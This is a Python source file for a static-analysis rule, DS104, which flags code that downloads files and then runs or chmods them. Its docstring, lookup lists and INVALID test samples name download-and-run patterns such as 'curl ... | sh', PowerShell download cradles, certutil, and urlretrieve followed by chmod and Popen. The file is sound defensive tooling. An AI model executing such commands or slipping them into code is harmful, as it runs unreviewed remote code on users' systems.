"""DS104 download-and-execute: a file fetched from the network and then made executable or run."""

from __future__ import annotations

from dataclasses import dataclass, field

from datasec_scan.lazycst import cst

from datasec_scan import fallback
from datasec_scan.model import Category, Confidence, Severity
from datasec_scan.rule import Rule
from datasec_scan.semantics.constants import fold, fold_str
from datasec_scan.semantics.decode import looks_like_python
from datasec_scan.tree import Visitor, walk

from . import _prescreen as ps
from ._remote import (
    DECODED,
    DOWNLOAD_EXEC_COMMANDS,
    NETWORK,
    SOCKET,
    Analyzer,
    FunctionScopes,
    any_match,
    argument,
    code_of,
    keyword,
    match_command,
    positional,
    short,
)

_DOWNLOAD_TO_FILE = ("urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download", "requests.get().iter_content",
                     "ftplib.FTP().retrbinary")
_WRITE_METHODS = ("write", "writelines", "write_bytes", "write_text")
_PATH_ADDERS = frozenset({"sys.path.insert", "sys.path.append", "site.addsitedir"})
_IMPORTERS = frozenset({"runpy.run_module", "importlib.import_module", "builtins.__import__"})
# Calls that run a file given by path (the argument at the index): Python source, or a native library whose
# initialisers run when it is loaded.
_FILE_RUNNERS = {"runpy.run_path": 0, "ctypes.CDLL": 0, "ctypes.WinDLL": 0, "ctypes.OleDLL": 0, "ctypes.PyDLL": 0,
                 "ctypes.cdll.LoadLibrary": 0, "ctypes.windll.LoadLibrary": 0, "ctypes.CDLL.LoadLibrary": 0,
                 "imp.load_source": 1, "imp.load_dynamic": 1, "importlib.machinery.SourceFileLoader": 1,
                 "importlib.util.spec_from_file_location": 1}
_OPENERS = ("builtins.open", "io.open", "codecs.open", "pathlib.Path().open", "builtins.open().__enter__")
_INTERPRETERS = ("sh", "bash", "zsh", "dash", "python", "python3", "powershell", "pwsh", "cmd", "cmd.exe", "msiexec",
                 "perl", "node", "ruby", "wscript", "cscript", "rundll32", "/bin/sh", "/bin/bash", "sudo", "chmod")
_FETCHERS = ("curl", "curl.exe", "wget", "wget.exe")
_PATH_JOINERS = frozenset({"os.path.join", "posixpath.join", "ntpath.join", "pathlib.Path", "pathlib.PurePath",
                           "pathlib.Path().joinpath", "pathlib.PurePath().joinpath"})
_RUNNABLE = frozenset({"exe", "scr", "com", "bat", "cmd", "ps1", "vbs", "vbe", "js", "jse", "wsf", "hta", "msi", "dll",
                       "sh", "bash", "py", "pyw", "pyc", "jar", "so", "dylib", "elf", "bin", "run", "appimage", "lnk"})
_SCRIPT = "script"  # a write of Python code written in the package (scanned as Python when the file is run)
_EXEC_BITS = ("S_IEXEC", "S_IXUSR", "S_IXGRP", "S_IXOTH", "S_IRWXU")

# Pre-screen (necessary for any report, see rules/_prescreen.py): a spawner (a command string, a run of a download,
# `curl -o`), or os.chmod/Path.chmod (the only other "run") with a download to a file or a `.write*(...)`; or what
# the reduced scan (`fallback.pipe_to_shell`) needs: a fetcher word and a pipe into a shell.
_APPLIES = ps.any_of(
    ps.SPAWN,
    ps.all_of(ps.Names(["os.chmod", "pathlib.Path().chmod", *_FILE_RUNNERS, *_PATH_ADDERS]),
              ps.any_of(ps.Names(_DOWNLOAD_TO_FILE), ps.word(*_WRITE_METHODS))),
    # `fallback._FETCH` as words (a word-set lookup, not a scan of the text), then `fallback._SHELL_PIPE`, in any text
    ps.in_full_text(ps.all_of(
        ps.any_of(ps.word("curl", "wget", "fetch", "iwr"), lambda v: any("Invoke-WebRequest" in f for f in v.forms)),
        lambda v: v.search(fallback._SHELL_PIPE))),
)


class _VariableNames(Visitor):
    """The variable names an expression is built from (a module-level class: one defined per call is a new class,
    and cyclic garbage, every time)."""

    def __init__(self) -> None:
        self.keys: set[str] = set()

    def visit_Attribute(self, node: cst.Attribute) -> bool:
        walk(node.value, self)  # `os.path.join`: the attribute names are not variables
        return False

    def visit_Name(self, node: cst.Name) -> None:
        if node.value not in ("True", "False", "None", "os", "str", "open", "Path", "pathlib", "tempfile"):
            self.keys.add(node.value)


@dataclass
class _Scope:
    downloads: list[tuple[cst.CSTNode, frozenset[str], str, str]] = field(default_factory=list)  # + source label
    runs: list[tuple[cst.Call, frozenset[str], str, bool]] = field(default_factory=list)  # (call, keys, what, runs)
    returns: list[frozenset[str]] = field(default_factory=list)  # keys of what the function returns
    import_paths: list[frozenset[str]] = field(default_factory=list)  # keys of folders put on sys.path
    node: cst.CSTNode | None = None


class DownloadAndExecute(ps.CodeScreen, FunctionScopes, Rule):
    """A file fetched from the network and then made executable or run; `curl | sh` and PowerShell cradles.

    ## What it does
    Within one function (or at module level) finds a download to disk — `urlretrieve`,
    `wget.download`, writing a `requests`/`urllib` response body to a file, an argv
    `curl -o PATH URL` — or a file written from a decoded literal payload (high), followed by
    `os.chmod` with execute bits, or running the same path with `subprocess`, `os.system`,
    `os.startfile` or `os.exec*`, running it as Python (`runpy.run_path`, `imp.load_source`,
    `spec_from_file_location`, or importing a module after putting its folder on `sys.path`) or loading
    it as a native library (`ctypes.CDLL`, `WinDLL`). A helper that downloads to a path and returns it is followed to
    where its result is run (`launch(fetch(url))`). A path built at run time (from the user's name, a temporary
    folder) is matched by its literal file name: a download to `home + "/.cache/path.sh"` and a run of
    `bash /home/$USER/.cache/path.sh` in one function are the same file. Also finds download-and-run command strings handed to a
    spawner: `curl ... | sh`, `wget ... && chmod +x`, `powershell -EncodedCommand`,
    `IEX (New-Object Net.WebClient).DownloadString(...)`, `iwr ... -OutFile x; Start-Process x`,
    `certutil -urlcache`, `bitsadmin /transfer`, `pip install https://<host>/x.tar.gz` from a host
    that is not PyPI or a code forge (the sdist's build runs its `setup.py`).

    Python code written in the package and saved to a file that is then run (a temporary script
    started with `pythonw`) is scanned as Python, and what it does is reported at the write.

    ## Why is this bad?
    It runs a program chosen by whoever controls the server at the time of the download — a
    second stage no reviewer ever saw, which can change after the package was vetted.

    ## Example
    ```python
    import os, subprocess, urllib.request
    urllib.request.urlretrieve("https://example.com/agent", "/tmp/agent")
    os.chmod("/tmp/agent", 0o755)
    subprocess.Popen(["/tmp/agent"])
    ```

    ## How to fix
    Ship what you need in the package, or depend on it as a package with pinned hashes; never run
    downloaded binaries or scripts.

    ## References
    - CWE-494: Download of Code Without Integrity Check
    - CWE-506: Embedded Malicious Code
    - MITRE ATT&CK T1105 (Ingress Tool Transfer), T1059 (Command and Scripting Interpreter)
    """

    scope_type = _Scope
    code = "DS104"
    name = "download-and-execute"
    category = Category.REMOTE_ACCESS
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = (494, 506)
    attack = ("T1105", "T1059")
    screen = staticmethod(_APPLIES)
    VALID = (
        "import subprocess\nsubprocess.run(['git', 'clone', 'https://example.com/repo.git'])\n",
        "import urllib.request\nurllib.request.urlretrieve('https://example.com/data.csv', 'data.csv')\n"
        "import pandas\npandas.read_csv('data.csv')\n",
    )
    INVALID = (
        "import os, subprocess, urllib.request\nurllib.request.urlretrieve('https://example.com/a', '/tmp/a')\n"
        "os.chmod('/tmp/a', 0o755)\nsubprocess.Popen(['/tmp/a'])\n",
        "import os\nos.system('curl -fsSL https://example.com/install.sh | sh')\n",
        "import ctypes, urllib.request\nurllib.request.urlretrieve('https://example.com/x.so', '/tmp/x.so')\n"
        "ctypes.CDLL('/tmp/x.so')\n",
    )

    @classmethod
    def triggered_by(cls, text: str) -> bool:
        """A spawner, or chmod or a file runner (`runpy.run_path`, `ctypes.CDLL`) with a download/write, or a
        `curl ... | sh` line for the reduced scan."""
        return ps.memo(cls.code, text, cls.screen)

    @classmethod
    def fallback(cls, tree, text, context):  # type: ignore[override]
        """Reduced scan when libcst cannot parse the file (the engine marks these findings `fallback`)."""
        yield from fallback.pipe_to_shell(text)

    def __init__(self, context) -> None:
        super().__init__(context)
        self._scopes: list[_Scope] = []
        self._fetchers: dict[str, cst.CSTNode] = {}  # function -> its download, when it returns the downloaded path
        self._late_runs: list[tuple[cst.Call, cst.CSTNode, str]] = []  # runs in functions that download nothing
        self._with_names: list[dict[str, cst.BaseExpression]] = []  # `with open(p) as fh:` blocks being visited

    def visit_With(self, node: cst.With) -> None:
        self._with_names.append({item.asname.name.value: item.item for item in node.items
                                 if item.asname is not None and isinstance(item.asname.name, cst.Name)})

    def leave_With(self, original_node: cst.With) -> None:
        self._with_names.pop()

    def _keys(self, expr: cst.BaseExpression | None) -> frozenset[str]:
        """What identifies a path: its folded value and the variable names it is built from."""
        if expr is None:
            return frozenset()
        an = Analyzer.of(self.context)
        names = _VariableNames()
        value = fold_str(expr, an.names)
        if value:
            names.keys.add("=" + value.strip().strip("\"'"))
        file_name = _file_name(value) if value else self._built_file_name(expr, an, 0, self._scopes[-1].node)
        if file_name:
            names.keys.add("~" + file_name)
        walk(expr, names)
        return frozenset(names.keys)

    def _built_file_name(self, expr: cst.BaseExpression, an: Analyzer, depth: int, scope: cst.CSTNode | None
                         ) -> str | None:
        """The literal file name a path built at run time ends with: `home + '/.cache/run.sh'`,
        `f"{d}/run.sh"`, `os.path.join(d, 'run.sh')`, `Path(d) / 'run.sh'`."""
        if depth > 3:
            return None
        if isinstance(expr, cst.Name):
            bound = an.local_value(expr.value, scope) or an.names.single_value(expr.value)
            return self._built_file_name(bound, an, depth + 1, scope) if bound is not None else None
        if isinstance(expr, cst.BinaryOperation) and isinstance(expr.operator, cst.Divide):
            return self._built_file_name(expr.right, an, depth + 1, scope)
        if isinstance(expr, cst.Call) and expr.args and an.call_names(expr) & _PATH_JOINERS:
            return self._built_file_name(expr.args[-1].value, an, depth + 1, scope)
        if isinstance(expr, cst.BinaryOperation) and isinstance(expr.operator, cst.Add):
            right = self._built_file_name(expr.right, an, depth + 1, scope)  # `folder + "/run.sh"`
            if right is not None:
                return right
        return _file_name(an.partial_text(expr))

    def visit_Call(self, node: cst.Call) -> None:
        an = Analyzer.of(self.context)
        scope = self._scopes[-1]
        qualified = an.call_names(node)
        spawn = an.spawn(node)
        if spawn is not None:
            text = an.command_text(node)
            label = match_command(text, DOWNLOAD_EXEC_COMMANDS) if text else None
            if label:
                self.report(node, f"{spawn[1]} downloads and runs code ({label}): `{short(text or '')}`",
                            severity=Severity.HIGH, confidence=Confidence.HIGH)
                return
            scope.runs.append((node, self._program_keys(node), f"runs it with {spawn[1]}", True))
            output = self._fetch_output(node, an)
            if output is not None:  # `curl -o /tmp/x URL` as an argv: a download to that path
                scope.downloads.append((node, self._keys(output), code_of(output, 40), NETWORK))
            return
        if any_match(qualified, _DOWNLOAD_TO_FILE):
            dest = argument(node, 1, "filename") or keyword(node, "out")
            if dest is not None:
                scope.downloads.append((node, self._keys(dest), code_of(dest, 40), NETWORK))
            return
        if qualified & _PATH_ADDERS and node.args:
            scope.import_paths.append(self._keys(node.args[-1].value))  # `sys.path.insert(0, folder)`
            return
        if qualified & _IMPORTERS:
            for keys in scope.import_paths:  # a module imported from a folder just put on sys.path
                scope.runs.append((node, keys, f"imports it from sys.path with {min(qualified & _IMPORTERS)}", True))
            return
        runner = next((q for q in sorted(qualified) if q in _FILE_RUNNERS), None)
        if runner is not None:
            target = argument(node, _FILE_RUNNERS[runner], "path")
            if target is not None:
                scope.runs.append((node, self._keys(target), f"runs it with {runner}", True))
            return
        if "os.chmod" in qualified or "pathlib.Path().chmod" in qualified:
            args = positional(node)
            mode = args[1] if len(args) > 1 else (args[0] if args and "pathlib" in str(qualified) else keyword(node, "mode"))
            value = fold(mode, an.names) if mode is not None else None
            mode_text = code_of(mode, 80) if mode is not None else ""
            if isinstance(value, int) and value & 0o111 or any(bit in mode_text for bit in _EXEC_BITS):
                target = args[0] if args and "os.chmod" in qualified else (
                    node.func.value if isinstance(node.func, cst.Attribute) else None)
                scope.runs.append((node, self._keys(target), "makes it executable", False))
            return
        if isinstance(node.func, cst.Attribute) and node.func.attr.value in _WRITE_METHODS:
            data = positional(node)[0] if positional(node) else None
            if data is None:
                return
            sources = an.sources(data, want=(NETWORK, SOCKET, DECODED), use_flow=False, scope=scope.node)
            label = next((lab for lab in (NETWORK, SOCKET, DECODED) if lab in sources), None)
            if label is None and self._literal(node) is not None:
                label = _SCRIPT  # text of the package written to a file: judged as a script if the file is run
            if label is None:
                return
            dest = (node.func.value if node.func.attr.value in ("write_bytes", "write_text")
                    else self._write_target(node.func.value, an, scope.node))
            if dest is not None:
                scope.downloads.append((node, self._keys(dest), code_of(dest, 40), label))

    @staticmethod
    def _fetch_output(call: cst.Call, an: Analyzer) -> cst.BaseExpression | None:
        """The output path of an argv `curl ... -o PATH URL` / `wget ... -O PATH URL`, when a URL is fetched."""
        args = positional(call)
        command = args[0] if args else keyword(call, "args")
        if isinstance(command, cst.Name):
            command = an.names.single_value(command.value) or command
        if not isinstance(command, (cst.List, cst.Tuple)) or len(command.elements) < 3:
            return None
        if not isinstance(command.elements[0], cst.Element):
            return None  # (`[*base, ...]`: the program is not known)
        values = [e.value for e in command.elements if isinstance(e, cst.Element)]
        program = (fold_str(values[0], an.names) or "").replace("\\", "/").rsplit("/", 1)[-1].lower()
        if program not in _FETCHERS:
            return None
        texts = [fold_str(v, an.names) for v in values]
        if not any(t and "://" in t for t in texts):
            return None
        for i, text in enumerate(texts[1:-1], start=1):
            if text in ("-o", "-O", "--output", "--output-document", "-OutFile"):
                return values[i + 1]
        return None

    def _write_target(self, receiver: cst.BaseExpression, an: Analyzer, scope: cst.CSTNode | None = None
                      ) -> cst.BaseExpression | None:
        """The path a file object or Path was opened on: `open(p, 'wb').write`, `f.write` with f bound to open(p);
        a named temporary file stands for itself (what runs it names `f.name`)."""
        written = receiver
        if isinstance(receiver, cst.Name):
            opened = next((names[receiver.value] for names in reversed(self._with_names) if receiver.value in names),
                          None)  # the innermost `with ... as` of that name: a name reused for several files
            receiver = opened or an.local_value(receiver.value, scope) or receiver
        if isinstance(receiver, cst.Call):
            qualified = an.call_names(receiver)
            if qualified & {"builtins.open", "io.open", "codecs.open"}:
                return argument(receiver, 0, "file")
            if any(q.startswith("pathlib.") for q in qualified):
                return receiver
            if qualified & {"tempfile.NamedTemporaryFile"} and isinstance(written, cst.Name):
                return written
        return None

    def _literal(self, write: cst.CSTNode) -> str | None:
        """The text a `.write(...)` call writes, when it is a literal of the package."""
        args = positional(write) if isinstance(write, cst.Call) else []
        return fold_str(args[0], Analyzer.of(self.context).names) if args else None

    def _script(self, scope: _Scope, dest_keys: frozenset[str]) -> tuple[cst.CSTNode, str] | None:
        """The Python code the scope's literal writes put into one file, in order (`f.write("import os\n")`,
        `f.write("os.system(...)\n")`), with the first write, when together they read as Python."""
        writes = [node for node, keys, _, label in scope.downloads if label == _SCRIPT and keys & dest_keys]
        text = "".join(self._literal(w) or "" for w in writes)
        if writes and len(text) >= 16 and looks_like_python(text, 200_000):
            return writes[0], text
        return None

    def _program_keys(self, call: cst.Call) -> frozenset[str]:
        an = Analyzer.of(self.context)
        args = positional(call)
        first = args[0] if args else keyword(call, "args")
        if first is None:
            return frozenset()
        own = self._keys(first) | self._command_words(fold_str(first, an.names))
        if isinstance(first, cst.Name):
            first = an.names.single_value(first.value) or first
            if not isinstance(first, (cst.List, cst.Tuple)):
                return own | self._keys(first)
        if isinstance(first, (cst.List, cst.Tuple)) and first.elements:
            keys = set(self._keys(first.elements[0].value))
            program = fold_str(first.elements[0].value, an.names) or ""
            interpreter = program.rsplit("/", 1)[-1].lower() in _INTERPRETERS or any(
                q.startswith("sys.executable") for q in an.names.qualified_names(first.elements[0].value))
            script = first.elements[1].value if len(first.elements) > 1 else None
            if not program and script is not None and not (fold_str(script, an.names) or "").startswith("-"):
                interpreter = True  # `[_pythonw(), agent]`: a program found at run time, given a file to run
            if interpreter and script is not None:
                keys |= self._keys(script)
            words = [fold_str(e.value, an.names) or "*" for e in first.elements[:4] if isinstance(e, cst.Element)]
            return frozenset(keys | _run_file_names(words, ()))
        return own

    @staticmethod
    def _command_words(command: str | None) -> frozenset[str]:
        """`python3 /tmp/x.py &`: the program a shell command runs and, for an interpreter, the script it is given."""
        words = [w.strip("\"'") for w in (command or "").split() if not w.startswith("-")][:4]
        if not words:
            return frozenset()
        run = words[:1]
        if words[0].rsplit("/", 1)[-1].lower().removesuffix(".exe") in _INTERPRETERS and len(words) > 1:
            run.append(words[1])
        return frozenset({"=" + w for w in run} | _run_file_names(words, run))

    def visit_Return(self, node: cst.Return) -> None:
        if node.value is not None and self._scopes:
            self._scopes[-1].returns.append(self._keys(node.value))

    def leave_Module(self, original_node: cst.Module) -> None:
        super().leave_Module(original_node)
        if not self._fetchers or not self._late_runs:
            return
        # `launch(download(url))`: a helper that downloads to a path and returns it, and a run of what it returned.
        an = Analyzer.of(self.context)
        for call, scope_node, what in self._late_runs:
            program = self._program(call, an)
            helper = self._fetcher_of(program, an, scope_node, 0) if program is not None else None
            if helper is not None:
                download = self._fetchers[helper]
                self.report(call, f"the file `{helper}()` downloads: {what}", severity=Severity.CRITICAL,
                            confidence=Confidence.HIGH,
                            flow=((download, f"`{helper}()` downloads to a path it returns"), (call, what)))

    def _program(self, call: cst.Call, an: Analyzer) -> cst.BaseExpression | None:
        args = positional(call)
        first = args[0] if args else keyword(call, "args")
        if isinstance(first, (cst.List, cst.Tuple)) and first.elements:
            program = first.elements[0].value
            name = (fold_str(program, an.names) or "").rsplit("/", 1)[-1].lower()
            if (name in _INTERPRETERS or any(q.startswith("sys.executable") for q in an.names.qualified_names(
                    program))) and len(first.elements) > 1:
                return first.elements[1].value
            return program
        return first

    def _fetcher_of(self, expr: cst.BaseExpression, an: Analyzer, scope: cst.CSTNode | None, depth: int) -> str | None:
        """The local download helper whose result `expr` is: directly, through a variable or a parameter."""
        if depth > 2:
            return None
        if isinstance(expr, cst.Call):
            return next((q[8:] for q in an.call_names(expr) if q.startswith("<local>.") and q[8:] in self._fetchers),
                        None)
        if isinstance(expr, cst.Name):
            value = an.local_value(expr.value, scope)
            if value is not None:
                return self._fetcher_of(value, an, scope, depth + 1)
            flow = an.flow() if an._possible({NETWORK}) else None  # noqa: SLF001
            if flow is not None:
                try:
                    values = flow.values_of(expr)
                except Exception:  # noqa: BLE001 - data flow is optional here
                    return None
                for v in values[:4]:
                    found = self._fetcher_of(v, an, None, depth + 1)
                    if found is not None:
                        return found
        return None

    def _finish(self, scope: _Scope) -> None:
        if isinstance(scope.node, cst.FunctionDef) and scope.downloads and any(
                keys & dest for keys in scope.returns for _, dest, _, label in scope.downloads
                if label not in (DECODED, _SCRIPT)):
            self._fetchers.setdefault(scope.node.name.value, scope.downloads[0][0])
        for call, keys, what, runs in scope.runs:
            if not self._matched(scope, call, keys, what, runs) and runs:
                self._late_runs.append((call, scope.node, what))  # may run what a download helper returns

    def _matched(self, scope: _Scope, call: cst.Call, keys: frozenset[str], what: str, runs: bool) -> bool:
        """Report a run of what this scope downloaded (or wrote from a decoded payload); whether one was found."""
        for download, dest_keys, dest, label in scope.downloads:
            if download is call or not keys & dest_keys:
                continue
            if label == _SCRIPT:  # code of the package written to a file and started: what that code does
                script = self._script(scope, dest_keys) if runs else None
                if script is not None and self.context.scan_nested(
                        script[1], script[0], f"a script written to `{dest}` and run"):
                    return True
                continue
            if label == DECODED:  # a payload hidden in the package, written out and started
                if not runs:
                    continue
                self.report(call, f"file `{dest}` written from a decoded literal payload {what}",
                            severity=Severity.HIGH, confidence=Confidence.HIGH,
                            flow=((download, f"writes a decoded payload to `{dest}`"), (call, what)))
                return True
            severity = Severity.CRITICAL if runs else Severity.HIGH
            self.report(call, f"downloaded file `{dest}` {what}", severity=severity,
                        confidence=Confidence.HIGH if runs else Confidence.MEDIUM,
                        flow=((download, f"downloads to `{dest}`"), (call, what)))
            return True
        return False


def _run_file_names(words: list[str], run: list[str] | tuple[()]) -> set[str]:
    """Keys of the files a command runs: the program and an interpreter's script, and among its first words any
    file of a kind that runs (`cmd /c start %TEMP%\\setup.exe`)."""
    names = {"~" + name for name in map(_file_name, run) if name}
    names.update("~" + name for name in map(_file_name, words) if name and name.rpartition(".")[2] in _RUNNABLE)
    return names


def _file_name(path: str) -> str | None:
    """The file name a path ends with, when it is literal and has an extension (`/home/*/.cache/run.sh`: `run.sh`).
    A download and a run in one scope that name the same file are taken to be the same file, since where it goes is
    often built from run-time values (the user's name, `$USER`, a temporary folder) written differently each time."""
    name = path.strip().strip("\"'").replace("\\", "/").rsplit("/", 1)[-1].lower()
    stem, dot, extension = name.rpartition(".")
    if "*" in name or "$" in name or "%" in name or not dot or not stem or not extension.isalnum():
        return None
    return name
